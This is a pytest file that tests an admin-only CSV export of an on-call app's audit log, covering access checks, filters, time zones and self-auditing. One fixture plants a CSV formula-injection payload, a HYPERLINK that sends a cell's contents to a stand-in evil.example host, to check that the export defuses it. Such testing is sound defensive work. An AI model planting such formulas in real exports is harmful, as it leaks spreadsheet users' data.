"""`GET /audit/export.csv`: the filtered audit log as CSV for platform admins signed in by
cookie; 403 and no data for anyone else, and without a session."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session
from starlette.testclient import TestClient

from oncall.db.engine import write_session
from oncall.db.models import AuditEventRow
from oncall.incidents import events
from oncall.web import auth, routes

from .conftest import ADMIN, NOW, OBSERVER, RESPONDER

PLATFORM_ADMIN = "priya.raman@northwind.example"
EVIL = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"


@pytest.fixture
def logged(web: Engine) -> None:
    with write_session(web) as session:
        for i in range(1200):  # more than a batch of the stream
            row = events.record(session, at=NOW, actor=f"user:{RESPONDER}",
                                type="export.test", data={"n": i})
            row.subject_kind, row.subject_name = "schedule", "storefront-primary"
        row = events.record(session, at=NOW, actor="integration:synthetic-checks",
                            type="export.evil", data={"summary": EVIL})
        row.subject_kind, row.subject_name = "incident", EVIL


def _client(sign_in: Callable[[str], str], who: str | None) -> TestClient:
    client = TestClient(routes.router(), base_url="http://testserver", follow_redirects=False)
    if who is not None:
        client.cookies.set(auth.SESSION_COOKIE, sign_in(who))
    return client


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_an_admin_downloads_the_filtered_rows(sign_in: Callable[[str], str],
                                              logged: None) -> None:
    response = _client(sign_in, PLATFORM_ADMIN).get(
        "/audit/export.csv", params={"action": "export.test", "actor": "samuel"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith(
        'attachment; filename="audit-20260310-1200.csv"')
    assert response.headers["cache-control"] == "private, no-store"
    rows = _rows(response.text)
    assert len(rows) == 1200
    ids = [int(r["id"]) for r in rows]
    assert ids == sorted(ids, reverse=True)  # one instant: newest (highest id) first
    assert {(r["actor"], r["who"], r["action"], r["object_type"], r["object"]) for r in rows} == {
        (f"user:{RESPONDER}", "Samuel Osei", "export.test", "schedule", "storefront-primary")}
    assert sorted(int(r["details"].removeprefix("n=")) for r in rows) == list(range(1200))


def test_formulas_are_defused(sign_in: Callable[[str], str], logged: None) -> None:
    response = _client(sign_in, PLATFORM_ADMIN).get(
        "/audit/export.csv", params={"action": "export.evil"})
    (row,) = _rows(response.text)
    assert row["object"] == "'" + EVIL
    assert row["details"] == "summary=" + EVIL  # starts with a letter: left as it is


def test_a_time_range_in_the_viewers_zone(sign_in: Callable[[str], str], logged: None) -> None:
    client = _client(sign_in, PLATFORM_ADMIN)
    inside = client.get("/audit/export.csv", params={
        "action": "export.", "since": "2026-03-10T13:00", "until": "2026-03-10T13:01",
        "tz": "Europe/Berlin"})
    assert len(_rows(inside.text)) == 1201
    assert 'filename="audit-20260310-20260310.csv"' in inside.headers["content-disposition"]
    before = client.get("/audit/export.csv", params={
        "action": "export.", "until": "2026-03-10T13:00", "tz": "Europe/Berlin"})
    assert _rows(before.text) == []


def test_a_bad_filter_is_a_400(sign_in: Callable[[str], str]) -> None:
    response = _client(sign_in, PLATFORM_ADMIN).get("/audit/export.csv",
                                                    params={"since": "soon"})
    assert response.status_code == 400 and "from: expected a date" in response.text


@pytest.mark.parametrize("who", [None, ADMIN, RESPONDER, OBSERVER])
def test_everyone_else_is_refused(sign_in: Callable[[str], str], logged: None,
                                  who: str | None) -> None:
    response = _client(sign_in, who).get("/audit/export.csv", params={"action": "export."})
    assert response.status_code == 403
    assert "export.test" not in response.text and "@northwind.example" not in response.text
    assert "content-disposition" not in response.headers


def test_a_bad_filter_from_someone_refused_is_still_a_403(sign_in: Callable[[str], str]) -> None:
    """Nothing is read, not even the query string, before the person is checked."""
    response = _client(sign_in, RESPONDER).get("/audit/export.csv", params={"since": "soon"})
    assert response.status_code == 403


def _exports(web: Engine) -> list[tuple[str, dict[str, str]]]:
    with Session(web) as session:
        return [(row.actor, row.data or {}) for row in session.scalars(
            select(AuditEventRow).where(AuditEventRow.type == "audit.exported")
            .order_by(AuditEventRow.id))]


def test_the_export_is_itself_audited_with_its_filter(
        web: Engine, sign_in: Callable[[str], str], logged: None) -> None:
    response = _client(sign_in, PLATFORM_ADMIN).get(
        "/audit/export.csv", params={"action": "export.test", "since": "2026-03-10T13:00",
                                     "tz": "UTC"})
    assert response.status_code == 200
    assert _exports(web) == [(f"user:{PLATFORM_ADMIN}",
                              {"via": "web", "action": "export.test",
                               "since": "2026-03-10T13:00:00+00:00"})]


@pytest.mark.parametrize("who", [None, RESPONDER])
def test_a_refused_or_bad_export_is_not_recorded(web: Engine, sign_in: Callable[[str], str],
                                                 who: str | None) -> None:
    _client(sign_in, who).get("/audit/export.csv", params={"action": "export."})
    _client(sign_in, PLATFORM_ADMIN).get("/audit/export.csv", params={"since": "soon"})
    assert _exports(web) == []
